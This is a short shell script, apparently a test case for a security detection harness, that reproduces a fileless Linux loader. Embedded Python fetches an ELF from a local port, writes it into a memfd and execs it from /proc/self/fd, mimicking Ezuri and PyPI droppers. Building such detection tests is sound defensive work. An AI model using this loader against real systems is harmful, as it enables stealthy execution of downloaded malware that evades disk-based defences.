#!/bin/sh
# technique: T1620 Reflective Code Loading; T1105 Ingress Tool Transfer
# reproduces: fileless ELF loaders: the Ezuri crypter (AT&T Alien Labs, 2021) and Python droppers in PyPI malware write the payload into memfd_create() and execve("/proc/self/fd/N"), so no file is ever on disk
# expect: fileless-exec ^memfd:|^agent$
# exec-borne: yes
#
# python3 downloads the ELF into memory, copies it into a memfd and
# replaces itself with it.
set -u

command -v python3 >/dev/null 2>&1 || { echo "python3 not installed" >&2; exit 77; }

python3 - "http://127.0.0.1:${BW_ATTACK_PORT:?}/agent" <<'PY'
import os
import sys
import urllib.request

with urllib.request.urlopen(sys.argv[1], timeout=10) as resp:
    elf = resp.read()

fd = os.memfd_create("agent", 0)
view = memoryview(elf)
while view:
    view = view[os.write(fd, view):]
os.execve("/proc/self/fd/%d" % fd, ["agent", "--daemon"], dict(os.environ))
PY
